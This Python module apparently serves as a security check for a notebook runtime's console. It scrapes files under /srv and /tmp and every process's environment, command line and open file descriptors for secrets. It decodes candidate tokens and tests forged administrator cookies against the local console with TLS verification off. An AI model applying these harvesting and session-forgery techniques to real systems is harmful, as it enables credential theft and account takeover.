"""Tries to make a cookie of the console from whatever a notebook reads, with the runtime's own code."""

from __future__ import annotations

import base64
import binascii
import contextlib
import http.client
import re
import ssl
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

from dltk_runtime.server.console.session import COOKIE, Sessions
from dltk_runtime.server.token_files import ADMIN_NAME

MAX_BYTES = 1024**2  # of one file
MIN_LENGTH, MAX_LENGTH = 12, 256  # of what may be a key or a token, in bytes
FOLDERS = ("/srv", "/tmp")  # the home, and what else of the container can be written
PIECES = re.compile(rb"[^\x21-\x7e]+")  # between them, printable text without blanks
PARTS = re.compile(rb"[\s\"'=,;:&?/@<>(){}\[\]\\]+")
SECONDS = 60


class Guessed(Sessions):
    """Sessions whose key is a guess."""

    key = b""

    def _key(self) -> bytes:
        return self.key or super()._key()


def forge(api_token: str) -> dict[str, Any]:
    """Forge an administrator's cookie with everything that can be read, and show each one to the console.

    Returns the number of guesses, the names of the files that were read, and the guesses that were accepted.
    """
    files = dict(_read())
    guesses = sorted({each for content in files.values() for each in _guesses(content)})
    accepted = [guess.decode(errors="replace") for guess in _accepted(guesses, api_token)]
    return {"guesses": len(guesses), "files": sorted(files), "accepted": accepted}


def _read() -> Iterator[tuple[str, bytes]]:
    """Read the files of the folders and of all processes, their open memory files included."""
    places = [path for folder in FOLDERS for path in Path(folder).rglob("*")]
    for folder in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            places += [folder / "environ", folder / "cmdline", folder / "comm", *(folder / "fd").iterdir()]
    for path in places:
        with contextlib.suppress(OSError):
            if path.is_file():
                with path.open("rb") as file:
                    yield str(path), file.read(MAX_BYTES)


def _guesses(content: bytes) -> Iterator[bytes]:
    """Return what may be a key or a token: the whole, its lines, their parts, and what those mean as hex or base64."""
    found = {content, content.strip(), *content.splitlines(), *PIECES.split(content), *PARTS.split(content)}
    for text in found:
        for each in (text, *_decoded(text)):
            if MIN_LENGTH <= len(each) <= MAX_LENGTH:
                yield each


def _decoded(text: bytes) -> Iterator[bytes]:
    if MIN_LENGTH <= len(text) <= 2 * MAX_LENGTH:
        padded = text.rstrip(b"=") + b"=" * (-len(text.rstrip(b"=")) % 4)
        for decode, given in (
            (binascii.unhexlify, text),
            (base64.b64decode, padded),
            (base64.urlsafe_b64decode, padded),
        ):
            with contextlib.suppress(ValueError):
                yield decode(given)


def _cookies(guess: bytes, api_token: str) -> Iterator[str]:
    """Return the cookies that follow from a guess: as the key, as the only token, and beside that of Splunk."""
    text = guess.decode("utf-8", "replace")
    for key, tokens in ((guess, [[], []]), (b"", [[], [text]]), (b"", [[api_token], [text]])):
        users, admins = tokens
        sessions = Guessed(SimpleNamespace(users=users, admins=admins, named=()), Path("/nowhere"))
        sessions.key = key
        yield sessions._cookie(ADMIN_NAME, "", "")


def _accepted(guesses: list[bytes], api_token: str) -> Iterator[bytes]:
    context = ssl._create_unverified_context()
    client = http.client.HTTPSConnection("127.0.0.1", 5000, timeout=SECONDS, context=context)
    with contextlib.closing(client):
        for guess in guesses:
            for cookie in _cookies(guess, api_token):
                client.request("GET", "/ui/jobs", headers={"Cookie": f"{COOKIE}={cookie}"})
                with client.getresponse() as answer:
                    answer.read()
                assert answer.status in (200, 303), answer.status
                if answer.status == 200:
                    yield guess
